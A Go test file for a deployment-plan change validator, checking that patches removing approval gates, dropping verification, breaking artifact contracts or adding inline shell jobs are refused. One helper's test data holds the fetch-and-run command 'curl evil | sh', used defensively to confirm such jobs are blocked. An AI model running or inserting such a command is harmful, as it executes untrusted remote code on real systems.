package planner_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/capstan-dev/capstan"
	"github.com/capstan-dev/capstan/planner"
)

// changeBase is a small running plan: prepare -> stage build{compile ->
// package} -> approve (gate) -> deploy -> verify, with deploy consuming
// package's artifact.
func changeBase() *capstan.Plan {
	sim := func(id string, ev ...capstan.Probe) capstan.PlanNode {
		return capstan.PlanNode{ID: id, Type: capstan.NodeJob, Title: id, Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "sim"},
			Outputs: capstan.JobOutputs{Evidence: ev}}}
	}
	pkg := sim("package")
	pkg.Job.Outputs.Artifacts = []capstan.ArtifactSpec{{Name: "bundle", Type: "file", Sensitivity: "internal"}}
	deploy := sim("deploy", capstan.Probe{Name: "deployed", Type: "sim"})
	deploy.Job.Inputs.Artifacts = []string{"bundle"}
	p := &capstan.Plan{
		Meta: capstan.Meta{ID: "plan-1"}, IntentID: "intent-1", ScenarioRef: "app.install@1.0.0", Status: capstan.PlanRunning, Revision: 1,
		Nodes: []capstan.PlanNode{
			sim("prepare"),
			{ID: "build", Type: capstan.NodeStage, Title: "build", Children: []string{"compile", "package"}},
			sim("compile", capstan.Probe{Name: "compiled", Type: "sim"}), pkg,
			{ID: "approve", Type: capstan.NodeGate, Title: "approve", Gate: &capstan.GateSpec{Type: "manual", Reason: "prod", RequiredRoles: []string{"sre"}}},
			deploy,
			{ID: "verify", Type: capstan.NodeVerification, Title: "verify", Probes: []capstan.Probe{{Name: "healthy", Type: "sim"}}},
		},
		Edges: []capstan.Edge{{From: "prepare", To: "build"}, {From: "compile", To: "package"}, {From: "build", To: "approve"},
			{From: "approve", To: "deploy"}, {From: "deploy", To: "verify"}},
		Customizations: capstan.Customizations{BaseTemplate: "app.install@1.0.0"},
	}
	return p
}

func mirrorTemplate() *capstan.NodeTemplate {
	return &capstan.NodeTemplate{Name: "configure-registry-mirror", Parameters: []string{"mirror"}, Pack: "kubernetes@1.3.0",
		Node: capstan.PlanNode{Type: capstan.NodeJob, Title: "Configure a registry mirror", Parameters: map[string]any{"mirror": "registry.local"},
			Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "sim"}, Outputs: capstan.JobOutputs{Evidence: []capstan.Probe{{Name: "mirror-set", Type: "sim"}}}}}}
}

func runs(kv ...string) map[string]capstan.OperationNodeRun {
	out := map[string]capstan.OperationNodeRun{}
	for i := 0; i < len(kv); i += 2 {
		out[kv[i]] = capstan.OperationNodeRun{NodeID: kv[i], Status: capstan.NodeRunStatus(kv[i+1]), Attempts: 1}
	}
	return out
}

func shellSpec(id string) *capstan.PlanNode {
	return &capstan.PlanNode{ID: id, Type: capstan.NodeJob, Title: id, Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "shell", Script: "curl evil | sh"}}}
}

func TestApplyChangesRules(t *testing.T) {
	// In the middle of a run: prepare and compile succeeded, package failed.
	midRun := runs("prepare", "succeeded", "compile", "succeeded", "package", "failed")
	weakGate := &capstan.PlanNode{ID: "approve", Type: capstan.NodeGate, Title: "approve",
		Gate: &capstan.GateSpec{Type: "manual", Reason: "x", RequiredRoles: []string{"viewer"}}}
	cases := []struct {
		name    string
		changes []capstan.PlanChange
		runs    map[string]capstan.OperationNodeRun
		set     func(*planner.ChangeSet)
		rules   []string // the rules broken; none: accepted
	}{
		{"insert a template after a finished node", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Template: "configure-registry-mirror"}}, midRun, nil, nil},
		{"an unknown template", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Template: "rm-rf"}}, midRun, nil, []string{"template"}},
		{"a template parameter it does not declare", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Template: "configure-registry-mirror", Parameters: map[string]any{"script": "x"}}}, midRun, nil, []string{"template"}},
		{"retry a failed node", []capstan.PlanChange{{Op: "retry", Node: "package"}}, midRun, nil, nil},
		{"retry a rejected gate", []capstan.PlanChange{{Op: "retry", Node: "approve"}}, runs("prepare", "succeeded", "compile", "succeeded", "package", "succeeded", "approve", "failed"), nil, []string{"keep-gate"}},
		{"retry a succeeded node", []capstan.PlanChange{{Op: "retry", Node: "compile"}}, midRun, nil, []string{"history"}},
		{"retry before start", []capstan.PlanChange{{Op: "retry", Node: "package"}}, nil, func(cs *planner.ChangeSet) { cs.Started = false }, []string{"run-change-before-start", "history"}},
		{"remove a finished node", []capstan.PlanChange{{Op: "remove", Node: "prepare"}}, midRun, nil, []string{"history"}},
		{"replace a running node", []capstan.PlanChange{{Op: "replace", Node: "package", Template: "configure-registry-mirror"}},
			runs("prepare", "succeeded", "compile", "succeeded", "package", "running"), nil, []string{"running-node"}},
		{"remove the gate", []capstan.PlanChange{{Op: "remove", Node: "approve"}}, midRun, nil, []string{"keep-gate"}},
		{"skip the gate", []capstan.PlanChange{{Op: "skip", Node: "approve", Reason: "hurry"}}, midRun, nil, []string{"keep-gate"}},
		{"replace the gate with a job", []capstan.PlanChange{{Op: "replace", Node: "approve", Template: "configure-registry-mirror"}}, midRun, nil, []string{"keep-gate"}},
		{"lower the gate's roles", []capstan.PlanChange{{Op: "replace", Node: "approve", Spec: weakGate}}, midRun, nil, []string{"keep-gate-roles"}},
		{"a policy allows lowering the gate", []capstan.PlanChange{{Op: "replace", Node: "approve", Spec: weakGate}}, midRun,
			func(cs *planner.ChangeSet) { cs.Allows = func(r string) bool { return r == capstan.RuleKeepGateRoles } }, nil},
		{"cut the gate off what it guards", []capstan.PlanChange{{Op: "remove_edge", Edge: &capstan.Edge{From: "approve", To: "deploy"}}}, midRun, nil, []string{"keep-gate", "keep-evidence", "contract"}},
		{"remove the verification", []capstan.PlanChange{{Op: "remove", Node: "verify"}}, midRun, nil, []string{"keep-evidence"}},
		{"replace a job dropping its evidence", []capstan.PlanChange{{Op: "replace", Node: "deploy", Spec: &capstan.PlanNode{ID: "deploy", Type: capstan.NodeJob, Title: "d",
			Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "sim"}}}}}, midRun, nil, []string{"keep-evidence"}},
		{"skip a node whose artifact is needed", []capstan.PlanChange{{Op: "skip", Node: "package", Reason: "flaky"}}, midRun, nil, []string{"skip-dependents"}},
		{"skip it and what needs it", []capstan.PlanChange{{Op: "skip", Node: "package", Reason: "flaky"}, {Op: "skip", Node: "deploy", Reason: "needs package"}},
			midRun, nil, []string{"keep-evidence"}},
		{"an inline shell job without the permission", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Spec: shellSpec("evil")}}, midRun, nil, []string{"inline-code"}},
		{"an inline shell job in prod", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Spec: shellSpec("evil")}}, midRun,
			func(cs *planner.ChangeSet) { cs.MayAuthorJobs, cs.Environment, cs.Production = true, "live", true }, []string{"inline-code-prod"}},
		{"an inline shell job by an author outside prod", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Spec: shellSpec("tool")}}, midRun,
			func(cs *planner.ChangeSet) { cs.MayAuthorJobs = true }, nil},
		{"an inline shell job in an environment named prod but not declared so", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Spec: shellSpec("tool")}}, midRun,
			func(cs *planner.ChangeSet) { cs.MayAuthorJobs, cs.Environment = true, "prod" }, nil},
		{"parameters a gate never reads", []capstan.PlanChange{{Op: "set_parameters", Node: "approve", Parameters: map[string]any{"approvals": 0}}}, midRun, nil, []string{"shape"}},
		{"parameters a verification never reads", []capstan.PlanChange{{Op: "set_parameters", Node: "verify", Parameters: map[string]any{"skip": true}}}, midRun, nil, []string{"shape"}},
		{"parameters of a job", []capstan.PlanChange{{Op: "set_parameters", Node: "deploy", Parameters: map[string]any{"replicas": 2}}}, midRun, nil, nil},
		{"an inline playbook that runs on the controller", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Spec: &capstan.PlanNode{ID: "play", Type: capstan.NodeJob, Title: "play", Requires: []string{"host"},
			Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "ansible", Target: "host", Playbook: "- hosts: target\n  tasks: [{command: id, delegate_to: localhost}]\n"}}}}}, midRun,
			func(cs *planner.ChangeSet) { cs.MayAuthorJobs = true }, []string{"graph", "graph"}},
		{"a cycle", []capstan.PlanChange{{Op: "add_edge", Edge: &capstan.Edge{From: "verify", To: "deploy"}}}, midRun, nil, []string{"graph"}},
		{"parameters only: a structural change", []capstan.PlanChange{{Op: "insert_after", Node: "compile", Template: "configure-registry-mirror"}}, midRun,
			func(cs *planner.ChangeSet) { cs.ParametersOnly = true }, []string{"parameters-only"}},
		{"parameters only: an editable parameter", []capstan.PlanChange{{Op: "set_parameters", Parameters: map[string]any{"replicas": 3}}}, midRun,
			func(cs *planner.ChangeSet) { cs.ParametersOnly, cs.EditableParameters = true, []string{"replicas"} }, nil},
		{"parameters only: another parameter", []capstan.PlanChange{{Op: "set_parameters", Parameters: map[string]any{"image": "evil"}}}, midRun,
			func(cs *planner.ChangeSet) { cs.ParametersOnly, cs.EditableParameters = true, []string{"replicas"} }, []string{"parameters-only"}},
		{"every problem at once", []capstan.PlanChange{{Op: "remove", Node: "approve"}, {Op: "retry", Node: "ghost"}, {Op: "bogus"}, {Op: "skip", Node: "deploy"}}, midRun, nil,
			[]string{"keep-gate", "graph", "shape", "shape"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			base := changeBase()
			before, _ := json.Marshal(base)
			cs := planner.ChangeSet{Base: base, Changes: tc.changes, Started: true, Runs: tc.runs,
				Templates: map[string]*capstan.NodeTemplate{"configure-registry-mirror": mirrorTemplate()}}
			if tc.set != nil {
				tc.set(&cs)
			}
			res := planner.ApplyChanges(cs)
			var got []string
			for _, p := range res.Problems {
				got = append(got, p.Rule)
				require.NotEmpty(t, p.Message)
			}
			require.ElementsMatch(t, tc.rules, got, "%v", res.Problems)
			after, _ := json.Marshal(base)
			require.JSONEq(t, string(before), string(after), "the base revision is never modified")
			if len(tc.rules) == 0 {
				require.NotNil(t, res.Plan)
			} else {
				require.Nil(t, res.Plan)
				require.Error(t, res.Err("patch"))
			}
		})
	}
}

// The seed's §8 patch: insert the mirror after a finished node inside a
// stage and retry the failed node downstream of that stage.
func TestApplyChangesInsertAndRetry(t *testing.T) {
	base := changeBase()
	res := planner.ApplyChanges(planner.ChangeSet{Base: base, Started: true,
		Runs:      runs("prepare", "succeeded", "compile", "succeeded", "package", "failed"),
		Templates: map[string]*capstan.NodeTemplate{"configure-registry-mirror": mirrorTemplate()},
		Changes: []capstan.PlanChange{{Op: "insert_after", Node: "compile", Template: "configure-registry-mirror", Parameters: map[string]any{"mirror": "m.local"}},
			{Op: "retry", Node: "package"}}})
	require.Empty(t, res.Problems)
	p := res.Plan
	n := p.Node("configure-registry-mirror")
	require.NotNil(t, n)
	require.Equal(t, "kubernetes@1.3.0/configure-registry-mirror", n.Template)
	require.Equal(t, "m.local", n.Parameters["mirror"])
	require.Contains(t, p.Node("build").Children, "configure-registry-mirror", "the new node joins its anchor's stage")
	require.Contains(t, p.Edges, capstan.Edge{From: "compile", To: "configure-registry-mirror"})
	require.Contains(t, p.Edges, capstan.Edge{From: "configure-registry-mirror", To: "package"}, "the anchor's unfinished dependents wait for it")
	require.NotContains(t, p.Edges, capstan.Edge{From: "compile", To: "package"})
	require.Equal(t, []capstan.OperationNodeRun{{NodeID: "package", Status: capstan.NodePending, Attempts: 1}}, res.Runs)
	require.Equal(t, []capstan.GateTouch{{Node: "approve", Spec: *base.Node("approve").Gate}}, res.Gates, "the gate's upstream changed")
	require.Equal(t, []string{"compile", "package"}, base.Node("build").Children, "base untouched")
}

func TestRemoveKeepsOrder(t *testing.T) {
	base := changeBase()
	base.Nodes = append(base.Nodes, capstan.PlanNode{ID: "notify", Type: capstan.NodeJob, Title: "n", Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "sim"}}})
	base.Edges = append(base.Edges, capstan.Edge{From: "deploy", To: "notify"}, capstan.Edge{From: "notify", To: "verify"})
	res := planner.ApplyChanges(planner.ChangeSet{Base: base, Changes: []capstan.PlanChange{{Op: "remove", Node: "notify"}}})
	require.Empty(t, res.Problems)
	require.True(t, slices.Contains(res.Plan.Edges, capstan.Edge{From: "deploy", To: "verify"}))
	require.Empty(t, res.Gates)
}

func TestTooManyChangesAreRefusedAtOnce(t *testing.T) {
	changes := make([]capstan.PlanChange, planner.MaxChanges+1)
	for i := range changes {
		changes[i] = capstan.PlanChange{Op: capstan.ChangeSetParameters, Parameters: map[string]any{"i": i}}
	}
	res := planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Changes: changes})
	require.Len(t, res.Problems, 1)
	require.Equal(t, capstan.RuleShape, res.Problems[0].Rule)
}

// Stages that contain themselves, directly or through another, are refused
// with a problem, never a crash.
func TestStageCyclesAreProblemsNotCrashes(t *testing.T) {
	self := &capstan.PlanNode{ID: "s", Type: capstan.NodeStage, Title: "S", Children: []string{"s"}}
	res := planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Changes: []capstan.PlanChange{{Op: capstan.ChangeInsertAfter, Node: "prepare", Spec: self}}})
	require.NotEmpty(t, res.Problems)
	a := &capstan.PlanNode{ID: "sa", Type: capstan.NodeStage, Title: "A", Children: []string{"sb"}}
	b := &capstan.PlanNode{ID: "sb", Type: capstan.NodeStage, Title: "B", Children: []string{"sa"}}
	res = planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Changes: []capstan.PlanChange{
		{Op: capstan.ChangeInsertAfter, Node: "prepare", Spec: a}, {Op: capstan.ChangeInsertAfter, Node: "prepare", Spec: b}}})
	require.NotEmpty(t, res.Problems)
	// Moving probes into a list that does not prove the node is refused by the node's own checks.
	moved := &capstan.PlanNode{ID: "verify", Type: capstan.NodeVerification, Title: "V", Probes: []capstan.Probe{{Name: "healthy", Type: "sim"}},
		Job: &capstan.JobContract{Run: capstan.RunSpec{Runner: "sim"}, Outputs: capstan.JobOutputs{Evidence: []capstan.Probe{{Name: "ok", Type: "sim"}}}}}
	res = planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Changes: []capstan.PlanChange{{Op: capstan.ChangeReplace, Node: "verify", Spec: moved}}})
	require.NotEmpty(t, res.Problems)
	require.Nil(t, res.Plan)
}

// Stages are judged by their children: a stage whose child runs takes no
// new upstream node, and a node that joins a stage may not make a started
// node wait for it. A waiting gate that is replaced waits again.
func TestStagesAndGatesKeepHistory(t *testing.T) {
	tpl := map[string]*capstan.NodeTemplate{"configure-registry-mirror": mirrorTemplate()}
	res := planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Started: true, Templates: tpl,
		Runs:    runs("prepare", "succeeded", "compile", "running"),
		Changes: []capstan.PlanChange{{Op: capstan.ChangeInsertBefore, Node: "build", Template: "configure-registry-mirror"}}})
	require.Len(t, res.Problems, 1)
	require.Equal(t, capstan.RuleRunning, res.Problems[0].Rule, "%v", res.Problems)

	res = planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Started: true, Templates: tpl,
		Runs:    runs("prepare", "succeeded", "compile", "succeeded", "package", "succeeded", "approve", "succeeded", "deploy", "running"),
		Changes: []capstan.PlanChange{{Op: capstan.ChangeInsertAfter, Node: "package", Template: "configure-registry-mirror"}}})
	require.NotEmpty(t, res.Problems)
	require.Equal(t, capstan.RuleHistory, res.Problems[0].Rule, "%v", res.Problems)

	stronger := &capstan.PlanNode{ID: "approve", Type: capstan.NodeGate, Title: "approve",
		Gate: &capstan.GateSpec{Type: "manual", Reason: "prod", RequiredRoles: []string{"sre"}, Approvals: 2}}
	res = planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Started: true,
		Runs:    runs("prepare", "succeeded", "compile", "succeeded", "package", "succeeded", "approve", "waiting_approval"),
		Changes: []capstan.PlanChange{{Op: capstan.ChangeReplace, Node: "approve", Spec: stronger}}})
	require.Empty(t, res.Problems)
	require.Equal(t, []capstan.OperationNodeRun{{NodeID: "approve", Status: capstan.NodePending, Attempts: 1}}, res.Runs, "the gate opens again with its new spec")
}

// A change may not leave a node needing an artifact nothing before it
// makes, and a template change holds for the version it was made with.
func TestContractsAndPinnedTemplates(t *testing.T) {
	res := planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Changes: []capstan.PlanChange{{Op: capstan.ChangeRemove, Node: "package"}}})
	require.Len(t, res.Problems, 1)
	require.Equal(t, capstan.RuleContract, res.Problems[0].Rule)
	require.Contains(t, res.Problems[0].Message, "deploy needs artifact bundle")

	tpl := map[string]*capstan.NodeTemplate{"configure-registry-mirror": mirrorTemplate()}
	pinned := planner.PinTemplates([]capstan.PlanChange{{Op: capstan.ChangeInsertAfter, Node: "prepare", Template: "configure-registry-mirror"}}, tpl)
	require.Equal(t, "kubernetes@1.3.0/configure-registry-mirror", pinned[0].TemplateRef)
	newer := mirrorTemplate()
	newer.Pack = "kubernetes@1.5.0"
	res = planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Changes: pinned, Templates: map[string]*capstan.NodeTemplate{"configure-registry-mirror": newer}})
	require.Len(t, res.Problems, 1)
	require.Contains(t, res.Problems[0].Message, "is now kubernetes@1.5.0/configure-registry-mirror")
}

// A stage that contains itself many times over is refused quickly; two
// stages that contain each other are refused even with no edge between
// them; a revert of an insert into a stage is a plain remove.
func TestStageContainmentAndReverts(t *testing.T) {
	many := &capstan.PlanNode{ID: "s", Type: capstan.NodeStage, Title: "S", Children: []string{"s", "s", "s"}}
	res := planner.ApplyChanges(planner.ChangeSet{Base: changeBase(), Started: true, Runs: runs("prepare", "succeeded"), Changes: []capstan.PlanChange{
		{Op: capstan.ChangeInsertAfter, Node: "verify", Spec: many}, {Op: capstan.ChangeAddEdge, Edge: &capstan.Edge{From: "prepare", To: "s"}}}})
	require.NotEmpty(t, res.Problems)
	a := &capstan.PlanNode{ID: "sa", Type: capstan.NodeStage, Title: "A", Children: []string{"sb"}}
	b := &capstan.PlanNode{ID: "sb", Type: capstan.NodeStage, Title: "B", Children: []string{"sa"}}
	base := changeBase()
	base.Nodes = append(base.Nodes, *a, *b)
	var probs capstan.Problems
	capstan.ValidateGraph(base.Nodes, base.Edges, nil, &probs)
	require.Contains(t, strings.Join(probs, "; "), "contains itself through its children")

	tpl := map[string]*capstan.NodeTemplate{"configure-registry-mirror": mirrorTemplate()}
	before := changeBase()
	res = planner.ApplyChanges(planner.ChangeSet{Base: before, Templates: tpl, Changes: []capstan.PlanChange{{Op: capstan.ChangeInsertAfter, Node: "compile", Template: "configure-registry-mirror"}}})
	require.Empty(t, res.Problems)
	after := *res.Plan
	after.Revision = 2
	inv := planner.Inverse(capstan.Snapshot(before, ""), capstan.Snapshot(&after, ""))
	require.Equal(t, []capstan.PlanChange{{Op: capstan.ChangeRemove, Node: "configure-registry-mirror", Reason: "revert"},
		{Op: capstan.ChangeAddEdge, Edge: &capstan.Edge{From: "compile", To: "package"}, Reason: "revert"}}[:1], inv[:1])
	for _, c := range inv {
		require.NotEqual(t, "build", c.Node, "the stage's children follow the remove: no replace of the stage")
	}
}

// FuzzApplyChanges: any change set (as JSON) against a running plan is
// judged, never a panic; the base is never modified; an accepted result
// is a plan without graph problems.
func FuzzApplyChanges(f *testing.F) {
	tpl := map[string]*capstan.NodeTemplate{"configure-registry-mirror": mirrorTemplate()}
	f.Fuzz(func(t *testing.T, data []byte) {
		var changes []capstan.PlanChange
		if json.Unmarshal(data, &changes) != nil {
			return
		}
		base := changeBase()
		before, _ := json.Marshal(base)
		res := planner.ApplyChanges(planner.ChangeSet{Base: base, Changes: changes, Started: true, Templates: tpl,
			Runs: runs("prepare", "succeeded", "compile", "succeeded", "package", "failed")})
		after, _ := json.Marshal(base)
		if string(before) != string(after) {
			t.Fatal("the base revision was modified")
		}
		if len(res.Problems) == 0 {
			if res.Plan == nil {
				t.Fatal("accepted without a plan")
			}
			if probs := planner.GraphProblems(res.Plan); len(probs) > 0 {
				t.Fatalf("accepted a plan with graph problems: %v", probs)
			}
		}
	})
}
